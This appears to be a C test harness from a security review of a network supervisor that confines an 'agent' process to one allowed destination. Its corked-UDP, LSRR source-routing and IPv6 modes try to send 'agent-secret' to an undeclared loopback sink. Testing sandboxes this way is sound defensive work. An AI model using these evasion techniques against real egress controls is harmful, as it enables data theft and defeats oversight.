/*
 * ha9-stdio.c (review h-attack9): an inet socket on stdin that is connected
 * to the declared destination but carries state that sends elsewhere.
 *
 *   ha9-stdio run SV MODE    (as root, loopback only)
 *
 * Opens UDP sinks on 127.0.0.1:PORT (declared) and 127.0.0.2:9999
 * (undeclared) and an AF_PACKET counter on lo, then forks a caller that
 * prepares descriptor 0 by MODE and runs
 *     SV --no-loopback --allow 127.0.0.1:PORT --report /tmp/ha9/report.json
 *        -- (this program) agent
 * The agent only write()s "agent-secret" to descriptor 0 (never trapped).
 * MODE:
 *   plain  connect(127.0.0.1:PORT) only (control: the agent's bytes go to
 *          the declared sink)
 *   cork   sendto(127.0.0.2:9999, "caller-", MSG_MORE), then
 *          connect(127.0.0.1:PORT): a pending UDP datagram whose flow is the
 *          undeclared address; the agent's write appends and pushes it
 *   lsrr   setsockopt(IP_OPTIONS, LSRR via 127.0.0.2), then
 *          connect(127.0.0.1:PORT): every datagram leaves with IP
 *          destination 127.0.0.2 (the first hop), counted on lo
 * Prints the supervisor's exit status, the report's verdict and what each
 * sink and the lo counter saw.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define DECL_PORT 4471
#define UNDECL_PORT 9999

static struct sockaddr_in sin_of(const char *ip, int port)
{
	struct sockaddr_in s = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};

	inet_pton(AF_INET, ip, &s.sin_addr);
	return s;
}

static struct sockaddr_in6 sin6_of(const char *ip, int port)
{
	struct sockaddr_in6 s = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};

	inet_pton(AF_INET6, ip, &s.sin6_addr);
	return s;
}

static int udp6_sink(const char *ip, int port)
{
	struct sockaddr_in6 s = sin6_of(ip, port);
	int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&s, sizeof(s)) != 0) {
		perror("sink6");
		exit(2);
	}
	return fd;
}

static int udp_sink(const char *ip, int port)
{
	struct sockaddr_in s = sin_of(ip, port);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&s, sizeof(s)) != 0) {
		perror("sink");
		exit(2);
	}
	return fd;
}

static void drain(const char *name, int fd)
{
	char buf[2048];
	int n = 0;
	ssize_t r;

	while ((r = recv(fd, buf, sizeof(buf) - 1, 0)) >= 0) {
		buf[r] = '\0';
		printf("  %s got datagram %d: \"%s\"\n", name, ++n, buf);
	}
	printf("  %s: %d datagram(s)\n", name, n);
}

/* Counts IPv4 packets on lo whose destination is 127.0.0.2 and that hold
 * "agent-secret" (each looped packet is seen once outgoing, once incoming). */
static void count_lo(int pfd)
{
	unsigned char buf[4096];
	int n = 0;
	ssize_t r;

	while ((r = recv(pfd, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
		struct iphdr *ip = (struct iphdr *)(buf + 14);

		if (r < 34 || buf[12] != 0x08 || buf[13] != 0x00)
			continue;
		if (ip->daddr != htonl(0x7f000002))
			continue;
		if (memmem(buf, (size_t)r, "agent-secret", 12))
			n++;
	}
	printf("  lo: %d packet(s) with IP destination 127.0.0.2 holding the agent's bytes\n", n);
}

static int agent(void)
{
	ssize_t r = write(0, "agent-secret", 12);

	fprintf(stderr, "agent: write(0) = %zd (%s)\n", r, r < 0 ? strerror(errno) : "ok");
	return 0;
}

static char self[4096];

static void caller(const char *sv, const char *mode)
{
	struct sockaddr_in decl = sin_of("127.0.0.1", DECL_PORT);
	struct sockaddr_in und = sin_of("127.0.0.2", UNDECL_PORT);
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	char allow[64];

	if (strcmp(mode, "cork6") == 0) {
		struct sockaddr_in6 d6 = sin6_of("2001:db8::1", DECL_PORT);
		struct sockaddr_in6 u6 = sin6_of("2001:db8::2", UNDECL_PORT);

		s = socket(AF_INET6, SOCK_DGRAM, 0);
		if (sendto(s, "caller-", 7, MSG_MORE, (struct sockaddr *)&u6, sizeof(u6)) != 7 ||
		    connect(s, (struct sockaddr *)&d6, sizeof(d6)) != 0 || dup2(s, 0) != 0) {
			perror("cork6");
			exit(2);
		}
		close(s);
		execl(sv, sv, "--no-loopback", "--allow", "[2001:db8::1]:4471", "--report",
		      "/tmp/ha9/report.json", "--", self, "agent", (char *)NULL);
		perror("exec");
		exit(2);
	}
	if (strcmp(mode, "cork") == 0 &&
	    sendto(s, "caller-", 7, MSG_MORE, (struct sockaddr *)&und, sizeof(und)) != 7) {
		perror("sendto MSG_MORE");
		exit(2);
	}
	if (strcmp(mode, "lsrr") == 0) {
		/* NOP, LSRR len 7 ptr 4, hop 127.0.0.2; the final hop is the
		 * connected 127.0.0.1 (ip_options_get appends it as faddr). */
		unsigned char opt[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4, 127, 0, 0, 2};

		if (setsockopt(s, IPPROTO_IP, IP_OPTIONS, opt, sizeof(opt)) != 0) {
			perror("IP_OPTIONS");
			exit(2);
		}
	}
	if (connect(s, (struct sockaddr *)&decl, sizeof(decl)) != 0 || dup2(s, 0) != 0) {
		perror("connect");
		exit(2);
	}
	close(s);
	snprintf(allow, sizeof(allow), "127.0.0.1:%d", DECL_PORT);
	execl(sv, sv, "--no-loopback", "--allow", allow, "--report", "/tmp/ha9/report.json", "--",
	      self, "agent", (char *)NULL);
	perror("exec");
	exit(2);
}

int main(int argc, char **argv)
{
	int d, u, pfd, st;
	pid_t pid;
	char cmd[256];

	if (argc >= 2 && strcmp(argv[1], "agent") == 0)
		return agent();
	if (argc != 4 || strcmp(argv[1], "run") != 0) {
		fprintf(stderr, "usage: ha9-stdio run SV plain|cork|lsrr|cork6\n");
		return 2;
	}
	if (!realpath("/proc/self/exe", self))
		return 2;
	if (strcmp(argv[3], "cork6") == 0) {
		d = udp6_sink("2001:db8::1", DECL_PORT);
		u = udp6_sink("2001:db8::2", UNDECL_PORT);
	} else {
		d = udp_sink("127.0.0.1", DECL_PORT);
		u = udp_sink("127.0.0.2", UNDECL_PORT);
	}
	pfd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (pfd >= 0) {
		struct sockaddr_ll ll = {.sll_family = AF_PACKET,
					 .sll_protocol = htons(ETH_P_ALL),
					 .sll_ifindex = (int)if_nametoindex("lo")};

		if (bind(pfd, (struct sockaddr *)&ll, sizeof(ll)) != 0)
			perror("bind AF_PACKET");
	}
	if (system("mkdir -p /tmp/ha9 && rm -f /tmp/ha9/report.json") != 0)
		return 2;
	pid = fork();
	if (pid == 0) {
		close(d);
		close(u);
		close(pfd);
		caller(argv[2], argv[3]);
	}
	waitpid(pid, &st, 0);
	usleep(200 * 1000);
	printf("mode %s: supervisor exit %d\n", argv[3], WIFEXITED(st) ? WEXITSTATUS(st) : -1);
	snprintf(cmd, sizeof(cmd),
		 "python3 -c 'import json; r=json.load(open(\"/tmp/ha9/report.json\")); "
		 "print(\"  verdict\", r[\"verdict\"], \"counts\", r[\"counts\"])'");
	if (system(cmd) != 0)
		printf("  (no report)\n");
	drain("declared sink", d);
	drain("undeclared sink (port 9999)", u);
	if (pfd >= 0)
		count_lo(pfd);
	return 0;
}
